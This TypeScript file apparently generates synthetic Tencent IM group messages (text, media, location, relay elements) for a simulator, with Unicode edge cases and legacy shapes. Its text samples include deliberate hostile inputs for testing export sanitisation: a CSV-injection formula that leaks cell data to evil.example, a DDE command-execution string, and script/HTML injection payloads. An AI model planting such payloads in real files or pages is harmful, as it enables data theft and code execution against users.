/**
 * Pure generation of one synthetic group message: a function of (seed, stream, seq, time) only.
 *
 * Bodies cover every element type of docs/tencent-api.md (Message elements), including the legacy 2.X/3.X
 * media shapes without URLs, multi-element bodies, CJK/emoji/RTL text, control characters in
 * TIMCustomElem.Data, and TIMRelayElem with nested MsgList (or JsonMsgKey when "too large").
 */
import type { JsonObject, JsonValue, RawMessage } from '../domain/tencent-types.ts';
import { createPrng, hashString, hexString, intBetween, mix, type Prng, pick, unit } from './hash.ts';
import {
  foldSize,
  type MediaUrlFile,
  type MediaUrlPlan,
  mediaUrl,
  SIM_MEDIA_MAX_BYTES,
} from './media-files.ts';

/** The element types of docs/tencent-api.md, Message elements. */
export const ELEMENT_TYPES = [
  'TIMTextElem',
  'TIMLocationElem',
  'TIMFaceElem',
  'TIMCustomElem',
  'TIMSoundElem',
  'TIMImageElem',
  'TIMFileElem',
  'TIMVideoFileElem',
  'TIMRelayElem',
] as const;
export type ElementType = (typeof ELEMENT_TYPES)[number];

/** What the history API does with a stored seq. */
export type MessageFate = 'normal' | 'deleted' | 'recalled';

/** Media host when no media listener serves the files; looks like the documented COS hosts. */
export const DEFAULT_MEDIA_BASE_URL = 'https://sim-im-1400000000.cos.ap-shanghai.myqcloud.com';

/** Everything about a message stream (a group, or one topic of a group) needed to build its messages. */
export interface MessageStreamKey {
  seed: number;
  groupId: string;
  /** hashString(groupId): drives the sender pool, shared by a group's topics. */
  groupHash: number;
  /** hashString(topicId ?? groupId): drives per-message randomness. */
  keyHash: number;
  /** How media URLs and declared sizes are made. */
  media: MediaUrlPlan;
}

/** A URL plan for `baseUrl` with no disallowed host and realistic sizes. */
export function mediaPlanFor(baseUrl: string = DEFAULT_MEDIA_BASE_URL): MediaUrlPlan {
  return { baseUrl, disallowedBaseUrl: undefined, disallowedHostFraction: 0, maxBytes: SIM_MEDIA_MAX_BYTES };
}

/** Builds the stream key for `groupId` (and optionally one of its topics). */
export function streamKey(
  seed: number,
  groupId: string,
  topicId?: string,
  mediaBaseUrl?: string,
): MessageStreamKey {
  return {
    seed,
    groupId,
    groupHash: hashString(groupId),
    keyHash: hashString(topicId ?? groupId),
    media: mediaPlanFor(mediaBaseUrl),
  };
}

// Salts keep the independent decisions about one seq uncorrelated.
const SALT_FATE = 0xfa7e;
const SALT_BODY = 0xb0d1;

/**
 * Decides deterministically whether `seq` is a normal, deleted or recalled message.
 * About `deletedFraction` of seqs are deleted and `recalledFraction` recalled.
 */
export function messageFate(
  key: Pick<MessageStreamKey, 'seed' | 'keyHash'>,
  seq: number,
  deletedFraction: number,
  recalledFraction: number,
): MessageFate {
  const u = unit(mix(key.seed, key.keyHash, seq, SALT_FATE));
  if (u < deletedFraction) return 'deleted';
  if (u < deletedFraction + recalledFraction) return 'recalled';
  return 'normal';
}

/**
 * Generates the full, unredacted message stored at `seq` (IsPlaceMsg 0). Placeholders for
 * deleted, expired or recalled seqs are derived from this by the caller.
 */
export function generateMessage(key: MessageStreamKey, seq: number, timeSec: number): RawMessage {
  const random = createPrng(mix(key.seed, key.keyHash, seq, SALT_BODY));
  const isSystem = random() < 0.02;
  const message: RawMessage = {
    From_Account: isSystem ? 'administrator' : senderAccount(key, random),
    IsPlaceMsg: 0,
    MsgBody: isSystem ? [systemElement(random, key)] : messageBody(random, key, seq, timeSec),
    MsgPriority: pick(random, [1, 1, 2, 2, 2, 2, 3, 4]),
    // uint32: deliberately spans the full range, so values above 2^31 appear.
    MsgRandom: Math.floor(random() * 0x1_0000_0000),
    MsgSeq: seq,
    MsgTimeStamp: timeSec,
  };
  if (isSystem) message.IsSystemMsg = 1;
  if (random() < 0.1) message.CloudCustomData = pick(random, CLOUD_CUSTOM_DATA);
  return message;
}

const NAMES = ['alice', 'bob.li', 'carol_wang', 'dave-zhang', 'erin', 'frank', 'grace', 'heidi'];

/** How many accounts send in a group (its topics share the pool): 3..40. */
export function senderPoolSize(groupHash: number): number {
  return 3 + (groupHash % 38);
}

/** The account of pool member `member` of a group: a mix of name-like and long numeric UserIDs. */
export function poolAccount(groupHash: number, member: number): string {
  if (member % 3 === 0) return `1441151${String(mix(groupHash, member) % 100_000_000_000).padStart(11, '0')}`;
  return `${NAMES[member % NAMES.length] ?? 'user'}${member}`;
}

/** A sender from the group's pool. */
function senderAccount(key: MessageStreamKey, random: Prng): string {
  return poolAccount(key.groupHash, Math.floor(random() * senderPoolSize(key.groupHash)));
}

/** Whether `account` has the shape of a pool account (name-like with a valid member number, or numeric). */
export function isPoolAccountShape(account: string): boolean {
  if (/^1441151[0-9]{11}$/.test(account)) return true;
  const match = /^([a-z._-]+?)([1-9][0-9]?)$/.exec(account);
  const member = Number(match?.[2]);
  return match !== null && member % 3 !== 0 && member < 40 && NAMES[member % NAMES.length] === match[1];
}

const TEXTS: readonly string[] = [
  '报上来',
  '收到 👍',
  '你好，大家好！今天下午三点开会，请准时参加 📅',
  '数据库迁移完成，耗时 3 分 12 秒 ✅',
  'Hello world',
  'Ça marche très bien — merci !',
  'مرحبا بالعالم',
  '👨‍👩‍👧‍👦 family, 🇨🇳 flag, 🏳️‍🌈 rainbow',
  'Line one\nLine two\tTabbed',
  'Quotes " and backslash \\ and <b>html</b> & ampersand',
  '𠮷野家の牛丼 (CJK extension B, surrogate pair)',
  'e\u0301 combining accent, zero\u200bwidth space',
  '한국어 메시지입니다 🙂',
  '',
  // Hostile content (users write anything): spreadsheet formulas (CSV injection) and HTML/script
  // injection, which exports and transcripts must neutralise.
  '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3 minus first',
  '<script>document.title="pwned"</script><img src=x onerror="document.title=\'pwned\'">',
  '</div></section><a href="javascript:alert(1)">click</a><style>body{display:none}</style>',
];
const LONG_TEXT_UNIT =
  '这是一段很长的消息，用来测试分页的字节上限。Long message body for page-size limits. 🚀 ';

const CLOUD_CUSTOM_DATA: readonly string[] = [
  '{"mentions":["alice1"],"v":1}',
  '{"quote":{"seq":1,"text":"原文 🧵"}}',
  'plain string 🎈',
  '',
];

const CUSTOM_DATA: readonly string[] = [
  '\b\u0001\u0010\u0006\u001a\u0006猫瞳',
  '\b\u0001\u0010\u0006\u001a\u000f西瓜妹妹。',
  '{"businessID":"order","orderId":"A-1001","amount":12.5}',
  'nul\u0000inside and \u001f unit separator',
];

/** Picks the body's elements. Every 5th seq showcases the element types in rotation. */
function messageBody(random: Prng, key: MessageStreamKey, seq: number, timeSec: number): JsonValue[] {
  const primary: ElementType =
    seq % 5 === 0 ? (ELEMENT_TYPES[(seq / 5) % ELEMENT_TYPES.length] ?? 'TIMTextElem') : weightedType(random);
  const context: ElementContext = { random, key, seq, timeSec, depth: 0 };
  const body = [element(primary, context)];
  if (random() < 0.15) {
    // Multi-element bodies; at most one TIMCustomElem per message (docs/tencent-api.md, Message elements).
    let customAllowed = primary !== 'TIMCustomElem';
    const count = intBetween(random, 1, 2);
    for (let i = 0; i < count; i++) {
      const extras: ElementType[] = ['TIMTextElem', 'TIMFaceElem', 'TIMImageElem'];
      if (customAllowed) extras.push('TIMCustomElem');
      const type = pick(random, extras);
      if (type === 'TIMCustomElem') customAllowed = false;
      body.push(element(type, context));
    }
  }
  return body;
}

const WEIGHTS: ReadonlyArray<readonly [ElementType, number]> = [
  ['TIMTextElem', 55],
  ['TIMImageElem', 10],
  ['TIMFaceElem', 6],
  ['TIMCustomElem', 6],
  ['TIMSoundElem', 5],
  ['TIMFileElem', 5],
  ['TIMRelayElem', 5],
  ['TIMVideoFileElem', 4],
  ['TIMLocationElem', 4],
];
const WEIGHT_TOTAL = WEIGHTS.reduce((sum, [, w]) => sum + w, 0);

function weightedType(random: Prng): ElementType {
  let roll = random() * WEIGHT_TOTAL;
  for (const [type, weight] of WEIGHTS) {
    roll -= weight;
    if (roll < 0) return type;
  }
  return 'TIMTextElem';
}

/** Where an element is made: the stream's generator, the message's seq and time, the relay depth. */
interface ElementContext {
  readonly random: Prng;
  readonly key: MessageStreamKey;
  readonly seq: number;
  readonly timeSec: number;
  /** 0 for a message's own element, 1 inside a merged forward, and so on. */
  readonly depth: number;
}

function element(type: ElementType, context: ElementContext): JsonObject {
  return { MsgType: type, MsgContent: content(type, context) };
}

function content(type: ElementType, context: ElementContext): JsonObject {
  const { random, key } = context;
  switch (type) {
    case 'TIMTextElem':
      return { Text: textContent(random) };
    case 'TIMLocationElem':
      return {
        Desc: pick(random, ['深圳市南山区科技园', 'Singapore, Marina Bay', '']),
        Latitude: Math.round((random() * 180 - 90) * 1e6) / 1e6,
        Longitude: Math.round((random() * 360 - 180) * 1e6) / 1e6,
      };
    case 'TIMFaceElem':
      return { Index: intBetween(random, 0, 200), Data: pick(random, ['', 'smile', '[微笑]']) };
    case 'TIMCustomElem':
      return { Data: pick(random, CUSTOM_DATA), Desc: pick(random, ['MIF', '']), Ext: '', Sound: '' };
    case 'TIMSoundElem':
      return soundContent(random, key);
    case 'TIMImageElem':
      return imageContent(random, key);
    case 'TIMFileElem':
      return fileContent(random, key);
    case 'TIMVideoFileElem':
      return videoContent(random, key);
    case 'TIMRelayElem':
      return relayContent(context);
  }
}

function textContent(random: Prng): string {
  // ~3% long texts (1.5-6 KB) so page byte budgets are exercised.
  if (random() < 0.03) return LONG_TEXT_UNIT.repeat(intBetween(random, 15, 60));
  return pick(random, TEXTS);
}

/** Roughly 15% of media elements use the legacy 2.X/3.X shape that carries no download URL. */
function isLegacy(random: Prng): boolean {
  return random() < 0.15;
}

/** The URL of one file, with its declared size folded into the plan's maximum. */
function fileUrl(key: MessageStreamKey, file: MediaUrlFile): string {
  return mediaUrl(key.seed, key.media, file);
}

function soundContent(random: Prng, key: MessageStreamKey): JsonObject {
  const uuid = hexString(random, 32);
  const size = foldSize(intBetween(random, 2_000, 400_000), key.media);
  const base = { UUID: uuid, Size: size, Second: intBetween(random, 1, 60) };
  if (isLegacy(random)) return base;
  return { Url: fileUrl(key, { kind: 'sound', fileId: uuid, size, ext: 'm4a' }), ...base, Download_Flag: 2 };
}

function imageContent(random: Prng, key: MessageStreamKey): JsonObject {
  const uuid = hexString(random, 32);
  const width = intBetween(random, 200, 4000);
  const height = intBetween(random, 200, 4000);
  const size = intBetween(random, 20_000, 5_000_000);
  const info = (type: number, scale: number): JsonObject => {
    const bytes = foldSize(Math.max(1, Math.round(size * scale * scale)), key.media);
    return {
      Type: type,
      Size: bytes,
      Width: Math.max(1, Math.round(width * scale)),
      Height: Math.max(1, Math.round(height * scale)),
      URL: fileUrl(key, { kind: 'image', fileId: `${uuid}_${type}`, size: bytes, ext: 'jpg' }),
    };
  };
  return {
    UUID: uuid,
    ImageFormat: pick(random, [1, 2, 3, 4, 255]),
    ImageInfoArray: [info(1, 1), info(2, 0.5), info(3, 0.1)],
  };
}

function fileContent(random: Prng, key: MessageStreamKey): JsonObject {
  const uuid = hexString(random, 32);
  const name = pick(random, ['季度报告 Q3.pdf', 'notes.txt', 'résumé final (2).docx', 'archive.tar.gz']);
  const size = foldSize(intBetween(random, 100, SIM_MEDIA_MAX_BYTES), key.media);
  const base = { UUID: uuid, FileSize: size, FileName: name };
  if (isLegacy(random)) return base;
  return { Url: fileUrl(key, { kind: 'file', fileId: uuid, size }), ...base, Download_Flag: 2 };
}

function videoContent(random: Prng, key: MessageStreamKey): JsonObject {
  const videoUuid = hexString(random, 32);
  const thumbUuid = hexString(random, 32);
  const legacy = isLegacy(random);
  const videoSize = foldSize(intBetween(random, 100_000, SIM_MEDIA_MAX_BYTES), key.media);
  const video: JsonObject = {
    VideoUUID: videoUuid,
    VideoSize: videoSize,
    // Web clients cannot read the duration and send 0 (docs/tencent-api.md, Message elements).
    VideoSecond: random() < 0.1 ? 0 : intBetween(random, 1, 600),
    VideoFormat: 'mp4',
    ThumbUUID: thumbUuid,
    ThumbSize: foldSize(intBetween(random, 5_000, 300_000), key.media),
    ThumbWidth: intBetween(random, 100, 1080),
    ThumbHeight: intBetween(random, 100, 1920),
    ThumbFormat: 'JPG',
  };
  if (legacy) return video;
  return {
    ...video,
    VideoUrl: fileUrl(key, { kind: 'video', fileId: videoUuid, size: videoSize, ext: 'mp4' }),
    VideoDownloadFlag: 2,
    ThumbUrl: fileUrl(key, { kind: 'thumb', fileId: thumbUuid, size: video.ThumbSize as number, ext: 'jpg' }),
    ThumbDownloadFlag: 2,
  };
}

function relayContent(context: ElementContext): JsonObject {
  const { random, key, seq, depth } = context;
  const count = intBetween(random, 1, 4);
  const head: JsonObject = {
    Title: pick(random, ['群聊的聊天记录', 'Chat history of alice1 and bob.li']),
    MsgNum: count,
    CompatibleText: '[聊天记录]',
    AbstractList: [],
  };
  // Forwards larger than 12K carry only a key to fetch them (docs/tencent-api.md, Message elements).
  if (random() < 0.1)
    return { ...head, AbstractList: ['alice1: 图片', 'bob.li: 收到'], JsonMsgKey: hexString(random, 40) };
  const list: JsonValue[] = [];
  const abstracts: JsonValue[] = [];
  for (let i = 0; i < count; i++) {
    const from = senderAccount(key, random);
    const nestedType: ElementType =
      depth < 1 && random() < 0.1
        ? 'TIMRelayElem'
        : pick(random, ['TIMTextElem', 'TIMFaceElem', 'TIMImageElem']);
    const nested = element(nestedType, { ...context, depth: depth + 1 });
    const item: JsonObject = {
      From_Account: from,
      GroupId: key.groupId,
      MsgSeq: Math.max(1, seq - count + i),
      MsgRandom: Math.floor(random() * 0x1_0000_0000),
      MsgTimeStamp: Math.max(0, context.timeSec - (count - i) * 60),
      MsgBody: [nested],
      CloudCustomData: '',
    };
    list.push(item);
    abstracts.push(`${from}: ${nestedType === 'TIMTextElem' ? '文本' : '[媒体]'}`);
  }
  return { ...head, AbstractList: abstracts, MsgList: list };
}

function systemElement(random: Prng, key: MessageStreamKey): JsonObject {
  const op = pick(random, ['join', 'quit', 'rename', 'notice']);
  return {
    MsgType: 'TIMCustomElem',
    MsgContent: {
      Data: JSON.stringify({ type: 'group_tips', op, group: key.groupId }),
      Desc: '',
      Ext: '',
      Sound: '',
    },
  };
}
